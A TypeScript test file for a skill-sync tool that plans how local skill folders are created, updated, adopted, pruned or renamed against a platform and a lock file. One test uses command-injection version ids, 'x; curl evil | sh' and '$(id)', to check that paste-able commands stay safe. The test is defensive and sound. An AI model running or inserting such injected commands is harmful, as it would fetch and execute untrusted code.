import { describe, expect, test } from 'vitest';
import type { Skill } from './folder/read.ts';
import { nameOf, planChanges } from './plan.ts';
import type { Survey } from './survey.ts';

const ours = 'a'.repeat(64);
const theirs = 'b'.repeat(64);

function skillOf(name: string): Skill {
  return { name, description: 'd', folder: `skills/${name}`, files: [], sha256: ours, warnings: [] };
}

const locked = { skillId: 'skill_1', versionId: 'skver_1', sha256: ours };
const nothing: Survey = {
  latestVersions: new Map(),
  namesakes: new Map(),
  contents: new Map(),
  renames: new Map(),
  pinners: new Map(),
  whereabouts: new Map(),
};
const holds = (sha256: string) => new Map([['skill_1', { sha256, files: new Map() }]]);
const asLocked: Survey = { ...nothing, latestVersions: new Map([['skill_1', 'skver_1']]) };
const moved: Survey = { ...nothing, latestVersions: new Map([['skill_1', 'skver_2']]) };
const triage = skillOf('triage');

test('creates what nobody knows', () => {
  expect(planChanges([triage], new Map(), nothing)).toEqual([{ kind: 'create', skill: triage }]);
});

test('leaves alone what is as the lock says', () => {
  expect(planChanges([triage], new Map([['triage', locked]]), asLocked)).toMatchObject([{ kind: 'unchanged' }]);
});

test('updates a changed folder when the platform is where the lock left it', () => {
  const before = { ...locked, sha256: theirs };
  expect(planChanges([triage], new Map([['triage', before]]), asLocked)).toMatchObject([{ kind: 'update' }]);
});

test('adopts a newer version with exactly our content', () => {
  const survey = { ...moved, contents: holds(ours) };
  expect(planChanges([triage], new Map([['triage', { ...locked, sha256: theirs }]]), survey)).toEqual([
    { kind: 'adopt', skill: triage, locked: { ...locked, versionId: 'skver_2' } },
  ]);
});

test.each([ours, theirs])('refuses a newer version with other content, whatever the folder holds', (sha256) => {
  const survey = { ...moved, contents: holds('c'.repeat(64)) };
  const [change] = planChanges([triage], new Map([['triage', { ...locked, sha256 }]]), survey);
  expect(change).toMatchObject({ kind: 'blocked', what: expect.stringContaining('"skver_2"') });
});

test.each([
  ['skver_2', 'skill-sync pull triage --skill-version skver_2 --overwrite'],
  ['x; curl evil | sh', 'skill-sync pull triage --skill-version <id> --overwrite'],
  ['$(id)', 'skill-sync pull triage --skill-version <id> --overwrite'],
])('names a command that can be pasted, whatever the id of that version is: %s', (id, command) => {
  const survey = { ...nothing, latestVersions: new Map([['skill_1', id]]), contents: holds(theirs) };
  const [change] = planChanges([triage], new Map([['triage', locked]]), survey);
  expect(change).toMatchObject({ kind: 'blocked', fix: expect.stringContaining(`or ${command} takes it over`) });
});

test('refuses when the locked skill is gone', () => {
  const [change] = planChanges([triage], new Map([['triage', locked]]), nothing);
  expect(change).toMatchObject({ kind: 'blocked', what: 'the platform has no skill "skill_1" any more' });
});

test('adopts an unknown skill of the same name and content, and only then', () => {
  const known = { ...moved, namesakes: new Map([['triage', ['skill_1']]]) };
  expect(planChanges([triage], new Map(), { ...known, contents: holds(ours) })).toEqual([
    { kind: 'adopt', skill: triage, locked: { ...locked, versionId: 'skver_2' } },
  ]);
  for (const contents of [holds(theirs), new Map()]) {
    expect(planChanges([triage], new Map(), { ...known, contents })).toMatchObject([{ kind: 'blocked' }]);
  }
});

test('never chooses between two skills of one name', () => {
  const survey = { ...nothing, namesakes: new Map([['triage', ['skill_1', 'skill_2']]]) };
  expect(planChanges([triage], new Map(), survey)).toMatchObject([
    { kind: 'blocked', what: 'the platform has several skills of this name: "skill_1", "skill_2"' },
  ]);
});

test('reports what is locked but has no folder, in the order of names', () => {
  const lock = new Map([
    ['zebra', { ...locked, skillId: 'skill_9' }],
    ['triage', locked],
    ['alpha', { ...locked, skillId: 'skill_8' }],
  ]);
  const changes = planChanges([triage], lock, asLocked);
  expect(changes.map((change) => [change.kind, nameOf(change)])).toEqual([
    ['orphaned', 'alpha'],
    ['unchanged', 'triage'],
    ['orphaned', 'zebra'],
  ]);
});

describe('a choice by flag', () => {
  const before = new Map([['triage', { ...locked, sha256: theirs }]]);
  const overwrite = { overwrite: true, prune: false };
  const prune = { overwrite: false, prune: true };

  test('--overwrite uploads over what somebody else uploaded, after the version that was seen', () => {
    const survey = { ...moved, contents: holds('c'.repeat(64)) };
    expect(planChanges([triage], before, survey, overwrite)).toEqual([
      {
        kind: 'update',
        skill: triage,
        locked: { skillId: 'skill_1', versionId: 'skver_2', sha256: 'c'.repeat(64) },
        overwrites: true,
      },
    ]);
    const namesake = { ...survey, namesakes: new Map([['triage', ['skill_1']]]) };
    expect(planChanges([triage], new Map(), namesake, overwrite)).toMatchObject([{ kind: 'update', overwrites: true }]);
  });

  test('--overwrite still chooses nothing between two, and revives nothing that was deleted', () => {
    const two = { ...nothing, namesakes: new Map([['triage', ['skill_1', 'skill_2']]]) };
    expect(planChanges([triage], new Map(), two, overwrite)).toMatchObject([{ kind: 'blocked' }]);
    expect(planChanges([triage], before, nothing, overwrite)).toMatchObject([{ kind: 'blocked' }]);
  });

  test('--prune deletes what has no folder, unless an agent pins it or somebody uploaded since', () => {
    expect(planChanges([], before, asLocked, prune)).toMatchObject([{ kind: 'prune', name: 'triage', gone: false }]);
    expect(planChanges([], before, nothing, prune)).toMatchObject([{ kind: 'prune', gone: true }]);
    expect(planChanges([], before, moved, prune)).toMatchObject([{ kind: 'blocked', code: 'drift' }]);
    expect(planChanges([], before, moved, { overwrite: true, prune: true })).toMatchObject([
      { kind: 'prune', locked: { versionId: 'skver_2' } },
    ]);
    const pinners = new Map([['triage', ['agent file support']]]);
    for (const choices of [prune, { overwrite: true, prune: true }]) {
      expect(planChanges([], before, { ...asLocked, pinners }, choices)).toMatchObject([
        { kind: 'blocked', code: 'skill_in_use', what: expect.stringContaining('agent file support') },
      ]);
    }
  });
});

test('a skill of the lock that is only not read is told of, and never deleted', () => {
  const lock = new Map([['triage', locked]]);
  const where = { what: 'skills/triage is a link', fix: 'put the folder there' };
  const survey = { ...asLocked, whereabouts: new Map([['triage', where]]), pinners: new Map([['triage', ['x']]]) };
  expect(planChanges([], lock, survey)).toEqual([{ kind: 'orphaned', name: 'triage', locked, where }]);
  for (const latestVersions of [asLocked.latestVersions, moved.latestVersions, nothing.latestVersions]) {
    const changes = planChanges([], lock, { ...survey, latestVersions }, { overwrite: true, prune: true });
    expect(changes).toMatchObject([
      { kind: 'blocked', code: 'skill_not_gone', what: `it is to be deleted, but ${where.what}`, fix: where.fix },
    ]);
  }
});

test('follows a rename, unless the platform has a skill of the new name', () => {
  const renames = new Map([['triage', 'sorting']]);
  const lock = new Map([['sorting', locked]]);
  expect(planChanges([triage], lock, { ...asLocked, renames })).toMatchObject([
    { kind: 'orphaned', name: 'sorting' },
    { kind: 'rename', from: 'sorting' },
  ]);
  const known = { ...moved, renames, namesakes: new Map([['triage', ['skill_1']]]), contents: holds(ours) };
  expect(planChanges([triage], new Map(), known)).toMatchObject([{ kind: 'adopt' }]);
});

test('a locked skill that is gone is found again where one of its name holds our content', () => {
  const other = { latestVersions: new Map([['skill_2', 'skver_9']]), namesakes: new Map([['triage', ['skill_2']]]) };
  const contents = new Map([['skill_2', { sha256: ours, files: new Map() }]]);
  const lock = new Map([['triage', locked]]);
  expect(planChanges([triage], lock, { ...nothing, ...other, contents })).toMatchObject([
    { kind: 'adopt', locked: { skillId: 'skill_2', versionId: 'skver_9' } },
  ]);
  expect(planChanges([triage], lock, { ...nothing, ...other })).toMatchObject([{ kind: 'blocked' }]);
});
